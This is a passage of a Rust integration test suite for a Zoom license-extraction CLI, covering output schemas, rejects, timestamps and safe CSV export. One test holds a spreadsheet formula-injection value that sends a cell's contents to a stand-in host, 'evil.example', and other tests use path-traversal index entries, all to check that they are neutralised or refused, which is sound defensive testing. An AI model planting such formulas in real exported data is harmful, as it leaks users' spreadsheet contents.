//! End-to-end tests of `zoom-licenses extract --replay`, run as a user would run the binary.

mod common;

use std::collections::BTreeSet;
use std::fs;
use std::io::Read;
use std::process::Stdio;

use arrow_schema::{DataType, TimeUnit};
use common::*;
use predicates::str::contains;
use serde_json::Value;

fn ndjson_lines(text: &str) -> Vec<Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l:?}: {e}")))
        .collect()
}

#[test]
fn sample_to_parquet_holds_exactly_the_active_and_pending_users_with_supported_plans() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("zoom_users.parquet");
    zoom_licenses()
        .args(["extract", "--replay"])
        .arg(fixture("sample"))
        .arg("--output")
        .arg(&target)
        .assert()
        .success()
        .stderr(contains("users written: 842"));

    let (batches, _) = read_parquet(&target);
    let keys: Vec<String> = text_column(&batches, "user_key")
        .into_iter()
        .map(Option::unwrap)
        .collect();
    let unique: BTreeSet<String> = keys.iter().cloned().collect();
    assert_eq!(keys.len(), unique.len(), "a user key appears twice");
    assert_eq!(unique, expected_keys(&fixture("sample")));
    assert_eq!(keys.len(), 842);

    let m = json_file(out.path().join("zoom_users_manifest.json"));
    assert_eq!(m["rows_written"], 842);
    assert_eq!(m["users_seen"], 1000);
    assert_eq!(m["rejects"]["deactivated"], 150);
    assert_eq!(m["outputs"]["licenses"]["rows"], 842);
    assert_eq!(
        m["outputs"]["licenses"]["bytes"],
        fs::metadata(&target).unwrap().len()
    );
    assert_eq!(
        m["outputs"]["rejects"]["path"],
        out.path()
            .join("zoom_users_rejects.parquet")
            .display()
            .to_string()
    );
    assert_eq!(m["statuses"]["active"]["total_records"], 700);
}

#[test]
fn parquet_has_license_schema_v2_with_utc_timestamps_and_run_metadata() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("users.parquet");
    zoom_licenses()
        .args(["extract", "--run-id", "run-42", "--replay"])
        .arg(fixture("plan-types"))
        .arg("--output")
        .arg(&target)
        .assert()
        .success();
    let (batches, kv) = read_parquet(&target);
    let schema = batches[0].schema();
    let utc = DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into()));
    let expected: Vec<(&str, DataType, bool)> = vec![
        ("source", DataType::Utf8, false),
        ("account_id", DataType::Utf8, true),
        ("user_key", DataType::Utf8, false),
        ("user_id", DataType::Utf8, true),
        ("email", DataType::Utf8, false),
        ("display_name", DataType::Utf8, true),
        ("first_name", DataType::Utf8, true),
        ("last_name", DataType::Utf8, true),
        ("status", DataType::Utf8, false),
        ("plan", DataType::Utf8, false),
        ("plan_type_code", DataType::Int32, false),
        ("plan_united_type", DataType::Utf8, true),
        ("licenses", DataType::Utf8, true),
        ("department", DataType::Utf8, true),
        ("role_id", DataType::Utf8, true),
        ("timezone", DataType::Utf8, true),
        ("user_created_at", utc.clone(), true),
        ("last_login_at", utc.clone(), true),
        ("last_client_version", DataType::Utf8, true),
        ("extracted_at", utc, false),
        ("run_id", DataType::Utf8, false),
        // Version 2's columns, after all of version 1's.
        (
            "group_ids",
            DataType::List(std::sync::Arc::new(arrow_schema::Field::new(
                "item",
                DataType::Utf8,
                true,
            ))),
            true,
        ),
        ("employee_unique_id", DataType::Utf8, true),
        ("verified", DataType::Boolean, true),
        ("language", DataType::Utf8, true),
        ("custom_attributes", DataType::Utf8, true),
    ];
    let actual: Vec<(&str, DataType, bool)> = schema
        .fields()
        .iter()
        .map(|f| (f.name().as_str(), f.data_type().clone(), f.is_nullable()))
        .collect();
    assert_eq!(actual, expected);
    let kv: std::collections::BTreeMap<_, _> = kv.into_iter().collect();
    assert_eq!(kv["run_id"], "run-42");
    assert_eq!(kv["schema_version"], "2");
    assert_eq!(kv["tool_version"], env!("CARGO_PKG_VERSION"));

    let (rejects, _) = read_parquet(&out.path().join("users_rejects.parquet"));
    let names: Vec<String> = rejects[0]
        .schema()
        .fields()
        .iter()
        .map(|f| f.name().clone())
        .collect();
    assert_eq!(
        names,
        [
            "run_id",
            "user_key",
            "user_id",
            "email",
            "status",
            "plan_type_code",
            "reason",
            "detail",
            "raw"
        ]
    );
}

#[test]
fn every_plan_code_lands_where_a_person_would_expect() {
    let out = tempfile::tempdir().unwrap();
    zoom_licenses()
        .args(["extract", "--format", "ndjson", "--replay"])
        .arg(fixture("plan-types"))
        .arg("--output")
        .arg(out.path().join("u.ndjson"))
        .assert()
        .success();
    let rows = ndjson_lines(&fs::read_to_string(out.path().join("u.ndjson")).unwrap());
    let got: Vec<(&str, &str, i64)> = rows
        .iter()
        .map(|r| {
            (
                r["email"].as_str().unwrap(),
                r["plan"].as_str().unwrap(),
                r["plan_type_code"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("user1@example.com", "basic", 1),
            ("user2@example.com", "licensed", 2),
            ("user3@example.com", "unassigned", 4),
            ("user4@example.com", "none", 99),
        ]
    );
    let rejects = ndjson_lines(&fs::read_to_string(out.path().join("u_rejects.ndjson")).unwrap());
    let got: Vec<(&str, &str, i64)> = rejects
        .iter()
        .map(|r| {
            (
                r["email"].as_str().unwrap(),
                r["reason"].as_str().unwrap(),
                r["plan_type_code"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("user5@example.com", "unsupported_plan", 3),
            ("user6@example.com", "unsupported_plan", 7),
        ]
    );
    assert!(rejects[1]["detail"].as_str().unwrap().contains("type 7"));
}

fn csv_cells(path: &std::path::Path, column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let idx = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap()[idx].to_string())
        .collect()
}

#[test]
fn csv_neutralizes_formula_cells_unless_raw() {
    let out = tempfile::tempdir().unwrap();
    let safe = out.path().join("safe.csv");
    let raw = out.path().join("raw.csv");
    for (path, extra) in [(&safe, None), (&raw, Some("--csv-raw"))] {
        let mut cmd = zoom_licenses();
        cmd.args(["extract", "--format", "csv", "--replay"])
            .arg(fixture("awkward-text"))
            .arg("--output")
            .arg(path);
        if let Some(flag) = extra {
            cmd.arg(flag);
        }
        cmd.assert().success();
    }
    let names = csv_cells(&safe, "display_name");
    assert_eq!(
        &names[4..],
        [
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            "'+1 555 0100",
            "'-2",
            "'@x",
            "'\tTabbed",
        ]
    );
    // Quotes, commas, newlines and Unicode round-trip through RFC 4180 quoting.
    assert_eq!(
        &names[..4],
        [
            "José Müller-Łukasiewicz",
            "山田 太郎 🎉",
            "Dwayne \"The Rock\" Johnson, Jr.",
            "Line one\nLine two",
        ]
    );
    assert_eq!(csv_cells(&safe, "department")[8], "'\rCarriage");
    assert_eq!(csv_cells(&safe, "department")[7], "'@sales");
    assert_eq!(csv_cells(&safe, "first_name")[5], "'+1");
    assert_eq!(csv_cells(&safe, "last_name")[6], "'-2");
    let raw_names = csv_cells(&raw, "display_name");
    assert_eq!(
        raw_names[4],
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"
    );
    assert_eq!(raw_names[6], "-2");
    let text = fs::read_to_string(&safe).unwrap();
    assert!(text.starts_with("source,account_id,user_key,"));
    assert!(text.contains("\r\n"), "RFC 4180 records end in CRLF");
    let created = csv_cells(&safe, "user_created_at");
    assert_eq!(created[0], "2023-01-05T09:00:00Z");
}

#[test]
fn ndjson_on_stdout_carries_only_data_even_with_debug_logs() {
    let assert = zoom_licenses()
        .current_dir(tempfile::tempdir().unwrap().path())
        .args([
            "-vv", "extract", "--format", "ndjson", "--output", "-", "--replay",
        ])
        .arg(fixture("sample"))
        .assert()
        .success();
    let output = assert.get_output();
    let stdout = String::from_utf8(output.stdout.clone()).unwrap();
    let rows = ndjson_lines(&stdout);
    assert_eq!(rows.len(), 842);
    for row in &rows {
        let object = row.as_object().unwrap();
        assert_eq!(object.len(), 26);
        assert!(row["extracted_at"].as_str().unwrap().ends_with('Z'));
    }
    assert!(stdout.starts_with("{\"source\":\"zoom\",\"account_id\":"));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("Extract started"), "{stderr}");
    assert!(
        stderr.contains("Replayed page"),
        "debug logs go to stderr: {stderr}"
    );
}

/// A copy of the `sample` recording in a new temporary directory, with page `name` rewritten by
/// `edit`; returns the directory and the recording's path in it.
fn sample_with_page(
    name: &str,
    edit: impl FnOnce(Vec<u8>) -> Vec<u8>,
) -> (tempfile::TempDir, std::path::PathBuf) {
    let work = tempfile::tempdir().unwrap();
    let recording = work.path().join("recording");
    copy_dir(&fixture("sample"), &recording);
    let page = recording.join("pages").join(name);
    let body = fs::read(&page).unwrap();
    fs::write(&page, edit(body)).unwrap();
    (work, recording)
}

/// A recorded page is read whole before any of its records: one broken in the middle
/// (a missing comma, the body still ending like a page) fails the run there, naming the file.
#[test]
fn a_page_broken_between_records_fails_the_run_and_names_its_file() {
    let (work, recording) = sample_with_page("00005-users-active.json", |body| {
        let body = String::from_utf8(body).unwrap();
        let between = body[body.len() / 2..].find("},{").unwrap() + body.len() / 2;
        format!("{} {}", &body[..=between], &body[between + 2..]).into_bytes()
    });

    let out = work.path().join("out");
    zoom_licenses()
        .args(["-q", "extract", "--replay"])
        .arg(&recording)
        .arg("--output")
        .arg(out.join("zoom_users.parquet"))
        .assert()
        .code(1)
        .stderr(contains("pages/00005-users-active.json"))
        .stderr(contains("invalid JSON: expected `,` or `]`"));
    assert!(dir_entries(&out).is_empty(), "{:?}", dir_entries(&out));
}

#[test]
fn a_run_that_fails_mid_write_leaves_no_output_and_keeps_the_previous_one() {
    // Cut the last page in half, as a dropped connection would.
    let (work, recording) = sample_with_page("00011-users-inactive.json", |body| {
        body[..body.len() / 2].to_vec()
    });

    let out = work.path().join("out");
    fs::create_dir_all(&out).unwrap();
    fs::write(out.join("zoom_users.parquet"), "previous run").unwrap();
    zoom_licenses()
        .args(["extract", "--replay"])
        .arg(&recording)
        .arg("--output")
        .arg(out.join("zoom_users.parquet"))
        .assert()
        .code(1)
        .stderr(contains("00011-users-inactive.json"))
        .stderr(contains("invalid JSON"));
    assert_eq!(dir_entries(&out), ["zoom_users.parquet"]);
    assert_eq!(
        fs::read_to_string(out.join("zoom_users.parquet")).unwrap(),
        "previous run"
    );
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    fs::create_dir_all(to.join("pages")).unwrap();
    fs::copy(from.join("index.json"), to.join("index.json")).unwrap();
    for entry in fs::read_dir(from.join("pages")).unwrap() {
        let entry = entry.unwrap();
        fs::copy(entry.path(), to.join("pages").join(entry.file_name())).unwrap();
    }
}

#[test]
fn malformed_records_land_in_rejects_with_reasons_and_never_fail_the_run() {
    let out = tempfile::tempdir().unwrap();
    zoom_licenses()
        .args(["extract", "--format", "ndjson", "--replay"])
        .arg(fixture("malformed"))
        .arg("--output")
        .arg(out.path().join("u.ndjson"))
        .assert()
        .success();
    let rows = ndjson_lines(&fs::read_to_string(out.path().join("u.ndjson")).unwrap());
    assert_eq!(rows.len(), 1);
    let rejects = ndjson_lines(&fs::read_to_string(out.path().join("u_rejects.ndjson")).unwrap());
    let details: Vec<&str> = rejects
        .iter()
        .map(|r| {
            assert_eq!(r["reason"], "invalid_record");
            r["detail"].as_str().unwrap()
        })
        .collect();
    assert!(details[0].starts_with("field `type`"), "{}", details[0]);
    assert!(details[1].contains("last_login_time"), "{}", details[1]);
    assert_eq!(details[2], "missing `email`");
    assert!(details[3].contains("user_created_at"), "{}", details[3]);
    assert_eq!(rejects[4]["raw"], "\"just a string\"");
    assert_eq!(rejects[5]["raw"], "null");
    // The raw JSON is kept exactly as received.
    assert!(
        rejects[0]["raw"]
            .as_str()
            .unwrap()
            .contains("\"type\": \"2\"")
    );
    let m = json_file(out.path().join("u_manifest.json"));
    assert_eq!(m["rejects"]["invalid_record"], 6);
}

#[test]
fn license_options_above_2_pow_53_survive_exactly() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("u.parquet");
    zoom_licenses()
        .args(["extract", "--replay"])
        .arg(fixture("license-info-list"))
        .arg("--output")
        .arg(&target)
        .assert()
        .success();
    let (batches, _) = read_parquet(&target);
    let licenses = text_column(&batches, "licenses");
    assert!(
        licenses[0]
            .as_deref()
            .unwrap()
            .contains("\"license_option\":9007199254740993")
    );
    let second = licenses[1].as_deref().unwrap();
    assert!(second.contains("18446744073709551615"), "{second}");
    assert!(second.contains("36028797018963968"), "{second}");
    assert_eq!(licenses[2].as_deref(), Some("[]"));
}

#[test]
fn same_run_id_and_as_of_give_byte_identical_outputs() {
    let out = tempfile::tempdir().unwrap();
    for format in ["parquet", "csv", "ndjson"] {
        let mut hashes = Vec::new();
        for attempt in ["a", "b"] {
            let target = out.path().join(attempt).join(format!("u.{format}"));
            zoom_licenses()
                .args([
                    "extract",
                    "--run-id",
                    "fixed",
                    "--as-of",
                    "2026-11-28T00:00:00Z",
                ])
                .args(["--format", format, "--replay"])
                .arg(fixture("sample"))
                .arg("--output")
                .arg(&target)
                .assert()
                .success();
            let m = json_file(out.path().join(attempt).join("u_manifest.json"));
            assert_eq!(m["extracted_at"], "2026-11-28T00:00:00.000000Z");
            hashes.push((
                fs::read(&target).unwrap(),
                m["outputs"]["licenses"]["sha256"].clone(),
                m["outputs"]["rejects"]["sha256"].clone(),
            ));
        }
        assert!(
            hashes[0] == hashes[1],
            "{format} output differs between runs"
        );
    }
}

#[test]
fn duplicates_are_dropped_and_counted() {
    let out = tempfile::tempdir().unwrap();
    zoom_licenses()
        .args(["extract", "--format", "csv", "--replay"])
        .arg(fixture("duplicates"))
        .arg("--output")
        .arg(out.path().join("u.csv"))
        .assert()
        .success()
        .stderr(contains("duplicates dropped: 2"));
    let m = json_file(out.path().join("u_manifest.json"));
    assert_eq!(m["duplicates"], 2);
    assert_eq!(m["rows_written"], 4);
    assert_eq!(csv_cells(&out.path().join("u.csv"), "user_key").len(), 4);
}

#[test]
fn bad_input_gets_a_clear_error_and_the_right_exit_code() {
    let work = tempfile::tempdir().unwrap();
    zoom_licenses()
        .current_dir(work.path())
        .args(["extract", "--replay", "no-such-dir"])
        .assert()
        .code(2)
        .stderr(contains("no-such-dir/index.json"));
    zoom_licenses()
        .current_dir(work.path())
        .args(["extract"])
        .assert()
        .code(2)
        .stderr(contains("--replay DIR"));
    zoom_licenses()
        .current_dir(work.path())
        .args(["extract", "--as-of", "yesterday", "--replay"])
        .arg(fixture("sample"))
        .assert()
        .code(2)
        .stderr(contains("--as-of"));
    // Durations are bounded: no setting makes a run wait for days, or overflows.
    for (flag, value) in [
        ("--timeout", "18446744073709551615"),
        ("--timeout", "0"),
        ("--max-wait", "1e300"),
        ("--retry-min-delay-ms", "18446744073709551615"),
    ] {
        zoom_licenses()
            .current_dir(work.path())
            .env("ZOOM_ACCOUNT_ID", "a")
            .env("ZOOM_CLIENT_ID", "b")
            .env("ZOOM_CLIENT_SECRET", "c")
            // Refused before any request; were it not, nothing but a dead loopback port is asked.
            .env("ZOOM_API_URL", "http://127.0.0.1:9/v2")
            .env("ZOOM_OAUTH_URL", "http://127.0.0.1:9")
            .args(["extract", flag, value])
            .assert()
            .code(2)
            .stderr(contains(flag));
    }
    zoom_licenses()
        .current_dir(work.path())
        .args(["extract", "--format", "xml", "--replay"])
        .arg(fixture("sample"))
        .assert()
        .code(2);

    // A recording that stops before a sweep's last page is refused, not silently short.
    let recording = work.path().join("cut");
    copy_dir(&fixture("pagination"), &recording);
    let mut index: Value = json_file(recording.join("index.json"));
    index["pages"].as_array_mut().unwrap().remove(2);
    fs::write(recording.join("index.json"), index.to_string()).unwrap();
    replay_in(work.path(), &recording)
        .code(1)
        .stderr(contains("incomplete"))
        .stderr(contains("`users?status=active`"));
    assert!(dir_entries(&work.path().join("out")).is_empty());
}

#[test]
fn a_closed_stdout_ends_the_run_quietly() {
    let work = tempfile::tempdir().unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_zoom-licenses"))
        .current_dir(work.path())
        .args([
            "-q", "extract", "--format", "ndjson", "--output", "-", "--replay",
        ])
        .arg(fixture("sample"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 64];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // The pipe is closed here, as `| head -c 64` would.
    let status = child.wait().unwrap();
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert_eq!(status.code(), Some(0), "{stderr}");
    assert!(stderr.is_empty(), "{stderr}");
}

#[test]
fn a_sink_that_fails_mid_write_leaves_no_files_behind() {
    // stdout on /dev/full: the NDJSON sink fails once its buffer is flushed, mid-run.
    let work = tempfile::tempdir().unwrap();
    let full = fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_zoom-licenses"))
        .current_dir(work.path())
        .args(["extract", "--format", "ndjson", "--output", "-", "--replay"])
        .arg(fixture("sample"))
        .stdout(full)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("No space left on device"), "{stderr}");
    assert!(dir_entries(&work.path().join("out")).is_empty());
}

/// Rows come out in the order Zoom sent them: each recording's license keys, read page by page
/// with serde_json alone, are the output's keys in the same order (repeats dropped where they come).
#[test]
fn rows_keep_the_order_of_the_recorded_pages() {
    for set in [
        "sample",
        "duplicates",
        "statuses",
        "pending-without-id",
        "pagination",
    ] {
        let output = zoom_licenses()
            .args([
                "-q", "extract", "--format", "ndjson", "--output", "-", "--replay",
            ])
            .arg(fixture(set))
            .output()
            .unwrap();
        assert!(output.status.success(), "{set}");
        let keys: Vec<String> = ndjson_lines(&String::from_utf8(output.stdout).unwrap())
            .iter()
            .map(|row| row["user_key"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(keys, expected_keys_in_order(&fixture(set)), "{set}");
    }
}

/// `extract --replay recording` run in `work`, its outcome to check.
fn replay_in(work: &std::path::Path, recording: &std::path::Path) -> assert_cmd::assert::Assert {
    zoom_licenses()
        .current_dir(work)
        .args(["extract", "--replay"])
        .arg(recording)
        .assert()
}

/// A copy of a fixture set whose `index.json` is rewritten by `edit`.
fn with_index(set: &str, edit: impl FnOnce(&mut Value)) -> (tempfile::TempDir, std::path::PathBuf) {
    let work = tempfile::tempdir().unwrap();
    let recording = work.path().join("recording");
    copy_dir(&fixture(set), &recording);
    let path = recording.join("index.json");
    let mut index: Value = json_file(&path);
    edit(&mut index);
    fs::write(&path, index.to_string()).unwrap();
    (work, recording)
}

/// The license keys a replay of `recording` writes, as NDJSON on stdout.
fn replayed_keys(recording: &std::path::Path) -> Vec<String> {
    let output = zoom_licenses()
        .args([
            "-q", "extract", "--format", "ndjson", "--output", "-", "--replay",
        ])
        .arg(recording)
        .output()
        .unwrap();
    assert_succeeded(&output);
    ndjson_lines(&String::from_utf8(output.stdout).unwrap())
        .iter()
        .map(|row| row["user_key"].as_str().unwrap().to_string())
        .collect()
}

/// A recorded retry (a 429 or 5xx before the page that worked) is skipped on replay: its body is
/// never read as a page, and the rows are those of the recording without it.
#[test]
fn recorded_non_200_answers_are_skipped() {
    let (_work, recording) = with_index("pagination", |index| {
        let pages = index["pages"].as_array_mut().unwrap();
        let mut retry = pages[1].clone();
        retry["file"] = "pages/retry-429.json".into();
        retry["http_status"] = 429.into();
        pages.insert(1, retry);
    });
    // Not a page at all: read as one, it would fail the run.
    let body = r#"{"code":429,"message":"You have reached the maximum per-second rate limit."}"#;
    fs::write(recording.join("pages/retry-429.json"), body).unwrap();
    assert_eq!(
        replayed_keys(&recording),
        replayed_keys(&fixture("pagination"))
    );
}

/// Page files must lie inside the recording: an absolute path or `..` is refused before anything
/// is read, and so is any field the format does not define.
#[test]
fn a_recording_index_is_checked_strictly() {
    /// A case: its name, how it breaks the index, and what the error must say.
    type Case = (&'static str, fn(&mut Value), &'static str);
    let cases: [Case; 8] = [
        (
            "host_key asked for",
            |index| index["pages"][0]["request"]["query"]["include_fields"] = "host_key".into(),
            "include_fields `host_key` is never asked for",
        ),
        (
            "unknown endpoint",
            |index| index["pages"][1]["request"]["endpoint"] = "user".into(),
            "is of endpoint `user`, which this build does not know",
        ),
        (
            "unknown status",
            |index| index["pages"][3]["request"]["query"]["status"] = "suspended".into(),
            "pages/00004-pending.json: unknown user status `suspended`",
        ),
        (
            "no users page",
            |index| {
                for page in index["pages"].as_array_mut().unwrap() {
                    page["request"]["endpoint"] = "users/summary".into();
                }
            },
            "it holds no page of `users`",
        ),
        (
            "..",
            |index| index["pages"][0]["file"] = "../outside.json".into(),
            "must be a relative path inside the recording",
        ),
        (
            "absolute",
            |index| index["pages"][0]["file"] = "/etc/hostname".into(),
            "must be a relative path inside the recording",
        ),
        (
            "unknown field",
            |index| index["pages"][0]["request"]["note"] = "x".into(),
            "unknown field `note`",
        ),
        (
            "unknown version",
            |index| index["version"] = 3.into(),
            "this build reads version 2",
        ),
    ];
    for (name, edit, message) in cases {
        let (work, recording) = with_index("pagination", edit);
        replay_in(work.path(), &recording)
            .code(2)
            .stderr(contains("not a valid recorded-run index"))
            .stderr(contains(message))
            .stderr(contains("Recorded-run format"));
        assert!(dir_entries(&work.path().join("out")).is_empty(), "{name}");
    }
}

/// Timestamps with an offset, fractions of a second or lower-case `t`/`z` arrive as the same instant
/// in UTC, in every format; one that is not RFC 3339 makes its record a reject. (The UTC values
/// below are worked out by hand from the fixture.)
#[test]
fn timestamps_with_offsets_and_fractions_arrive_in_utc() {
    let expected = [
        (
            "tsOffsetPlus",
            "2024-03-01T08:00:00Z",
            "2026-11-20T13:30:00Z",
        ),
        (
            "tsFraction",
            "2024-03-01T10:00:00.500Z",
            "2026-11-20T08:30:00.123456Z",
        ),
        (
            "tsLowerCase",
            "2024-03-01T10:00:00Z",
            "2026-11-20T23:29:59Z",
        ),
        (
            "tsDayBefore",
            "2024-02-29T19:00:00Z",
            "2024-03-01T00:00:59.999999Z",
        ),
    ];
    let work = tempfile::tempdir().unwrap();
    let output = zoom_licenses()
        .current_dir(work.path())
        .args([
            "-q", "extract", "--format", "ndjson", "--output", "-", "--replay",
        ])
        .arg(fixture("timestamps"))
        .output()
        .unwrap();
    assert!(output.status.success());
    let rows: Vec<(String, String, String)> =
        ndjson_lines(&String::from_utf8(output.stdout).unwrap())
            .iter()
            .map(|r| {
                let text = |name: &str| r[name].as_str().unwrap().to_string();
                (
                    text("user_key"),
                    text("user_created_at"),
                    text("last_login_at"),
                )
            })
            .collect();
    let want: Vec<(String, String, String)> = expected
        .iter()
        .map(|(k, c, l)| (k.to_string(), c.to_string(), l.to_string()))
        .collect();
    assert_eq!(rows, want);
    let rejects =
        fs::read_to_string(work.path().join("out/zoom_users_stdout_rejects.ndjson")).unwrap();
    let rejects = ndjson_lines(&rejects);
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0]["user_key"], "tsNotRfc");
    assert!(
        rejects[0]["detail"]
            .as_str()
            .unwrap()
            .contains("user_created_at")
    );

    // Parquet holds the same instants, as microseconds since the epoch in UTC.
    let out = work.path().join("parquet");
    zoom_licenses()
        .args(["-q", "extract", "--replay"])
        .arg(fixture("timestamps"))
        .arg("--output")
        .arg(out.join("u.parquet"))
        .assert()
        .success();
    let (batches, _) = read_parquet(&out.join("u.parquet"));
    let micros = |name: &str| -> Vec<i64> {
        use arrow_array::cast::AsArray;
        use arrow_array::types::TimestampMicrosecondType;
        batches
            .iter()
            .flat_map(|b| {
                let col = b.column_by_name(name).unwrap();
                col.as_primitive::<TimestampMicrosecondType>()
                    .values()
                    .to_vec()
            })
            .collect()
    };
    // 2024-03-01T08:00:00Z is 1,709,280,000 s after the epoch; 2024-02-29T19:00:00Z 13 hours less.
    assert_eq!(micros("user_created_at")[0], 1_709_280_000_000_000);
    assert_eq!(micros("user_created_at")[1], 1_709_287_200_500_000);
    assert_eq!(micros("user_created_at")[3], 1_709_233_200_000_000);
}

/// A sweep recorded twice from its first page (a restart after an expired page token) replays as
/// one restart: its repeats are dropped as duplicates and the rows are those of one pass; pages of
/// another known endpoint are skipped.
#[test]
fn a_recorded_restart_and_other_endpoints_replay_as_they_were() {
    let (work, recording) = with_index("pagination", |index| {
        let pages = index["pages"].as_array_mut().unwrap();
        let again = [pages[0].clone(), pages[1].clone()];
        let mut summary = pages[0].clone();
        summary["file"] = "pages/summary.json".into();
        summary["request"] =
            serde_json::json!({"endpoint": "users/summary", "query": {}, "page_token": null});
        pages.splice(2..2, again);
        pages.insert(0, summary);
    });
    fs::write(
        recording.join("pages/summary.json"),
        r#"{"total_users_count":1}"#,
    )
    .unwrap();
    assert_eq!(
        replayed_keys(&recording),
        replayed_keys(&fixture("pagination"))
    );
    let out = work.path().join("out");
    zoom_licenses()
        .args(["-q", "extract", "--replay"])
        .arg(&recording)
        .arg("--output")
        .arg(out.join("u.parquet"))
        .assert()
        .success();
    let m = json_file(out.join("u_manifest.json"));
    let active = &m["statuses"]["active"];
    assert_eq!(
        (active["restarts"].as_u64(), active["pages"].as_u64()),
        (Some(1), Some(5))
    );
    assert_eq!(active["users_received"], active["total_records"]);
    // The first pass's two pages (6 users, 3 each) came again.
    assert_eq!(m["duplicates"], 6);
    assert_eq!(m["pages_read"], 6);
}

/// The license rows' and rejects' `user_key` and `user_id` of `set`, as one output format writes
/// them (`args` chooses it), read back as text.
fn ids_written(set: &str, args: &[&str]) -> Vec<Option<String>> {
    let work = tempfile::tempdir().unwrap();
    let format = args[1];
    let out = work.path().join(format!("u.{format}"));
    zoom_licenses()
        .args(["-q", "extract", "--replay"])
        .arg(fixture(set))
        .args(args)
        .arg("--output")
        .arg(&out)
        .assert()
        .success();
    let rejects = work.path().join(format!("u_rejects.{format}"));
    let mut ids = Vec::new();
    for (path, columns) in [
        (&out, ["user_key", "user_id"]),
        (&rejects, ["user_key", "user_id"]),
    ] {
        for column in columns {
            ids.extend(match format {
                "parquet" => text_column(&read_parquet(path).0, column),
                "ndjson" => ndjson_lines(&fs::read_to_string(path).unwrap())
                    .iter()
                    .map(|r| r[column].as_str().map(str::to_owned))
                    .collect(),
                _ => csv_cells(path, column)
                    .into_iter()
                    .map(|v| Some(v).filter(|v| !v.is_empty()))
                    .collect(),
            });
        }
    }
    ids
}

/// Identifiers are never altered: every `user_key` and `user_id` of every fixture, in licenses and
/// rejects, is the same bytes in Parquet, NDJSON and CSV (with and without `--csv-raw`), and each
/// `user_id` is an `id` exactly as the recording holds it (the sample has ids beginning with `-`).
#[test]
fn every_id_is_written_byte_for_byte_in_every_format() {
    let mut dashed = 0;
    for entry in fs::read_dir(fixture("")).unwrap() {
        let set = entry.unwrap().file_name().to_string_lossy().into_owned();
        let parquet = ids_written(&set, &["--format", "parquet"]);
        assert_eq!(ids_written(&set, &["--format", "ndjson"]), parquet, "{set}");
        assert_eq!(ids_written(&set, &["--format", "csv"]), parquet, "{set}");
        assert_eq!(
            ids_written(&set, &["--format", "csv", "--csv-raw"]),
            parquet,
            "{set}"
        );
        let recorded = fs::read_dir(fixture(&set).join("pages"))
            .unwrap()
            .map(|p| fs::read_to_string(p.unwrap().path()).unwrap())
            .collect::<String>();
        for id in parquet
            .iter()
            .flatten()
            .filter(|k| !k.starts_with("pending:"))
        {
            assert!(
                recorded.contains(&format!("\"{id}\"")),
                "{set}: {id} is not a recorded id"
            );
            dashed += usize::from(set == "sample" && id.starts_with('-'));
        }
    }
    // The sample's ids beginning with `-` (8 license rows and 1 reject, worked out from its JSON),
    // each counted as user_key and user_id.
    assert_eq!(dashed, 18);
}

/// `group_ids` is a list in every format: Parquet `List<Utf8>`, an NDJSON array, one CSV cell of
/// the ids joined by `;`; `verified` a boolean; and the new columns come as Zoom sent them.
#[test]
fn group_ids_and_the_other_new_columns_round_trip() {
    let work = tempfile::tempdir().unwrap();
    let run = |format: &str| {
        let out = work.path().join(format!("u.{format}"));
        zoom_licenses()
            .args(["-q", "extract", "--format", format, "--replay"])
            .arg(fixture("real-shapes"))
            .arg("--output")
            .arg(&out)
            .assert()
            .success();
        out
    };
    // From fixtures/real-shapes, by hand: the active users, then the pending ones.
    let groups: [Option<Vec<&str>>; 5] = [
        Some(vec!["-gOps9Zx3"]),
        Some(vec!["-gOps9Zx3", "_gSales2Lm"]),
        Some(vec![]),
        None,
        None,
    ];
    let rows = ndjson_lines(&fs::read_to_string(run("ndjson")).unwrap());
    let as_json: Vec<Value> = groups
        .iter()
        .map(|g| g.as_ref().map_or(Value::Null, |ids| serde_json::json!(ids)))
        .collect();
    let got: Vec<Value> = rows.iter().map(|r| r["group_ids"].clone()).collect();
    assert_eq!(got, as_json);
    let verified: Vec<Value> = rows.iter().map(|r| r["verified"].clone()).collect();
    assert_eq!(verified, [true, true, false, false, false].map(Value::from));
    assert_eq!(rows[1]["employee_unique_id"], "EMP-20417");
    // The pending users: creation from `user_created_at` only (the second sends only the
    // `created_at` Zoom sets to the time of the request), and no login.
    let created: Vec<&Value> = rows[3..].iter().map(|r| &r["user_created_at"]).collect();
    assert_eq!(
        created,
        [&Value::from("2026-10-28T14:03:09Z"), &Value::Null]
    );
    assert!(rows[3..].iter().all(|r| r["last_login_at"].is_null()));
    assert_eq!(rows[0]["language"], "es-ES");
    assert!(rows.iter().all(|r| r["custom_attributes"].is_null()));

    let cells = csv_cells(&run("csv"), "group_ids");
    assert_eq!(cells, ["-gOps9Zx3", "-gOps9Zx3;_gSales2Lm", "", "", ""]);

    let (batches, _) = read_parquet(&run("parquet"));
    let mut lists: Vec<Option<Vec<String>>> = Vec::new();
    for batch in &batches {
        use arrow_array::Array;
        use arrow_array::cast::AsArray;
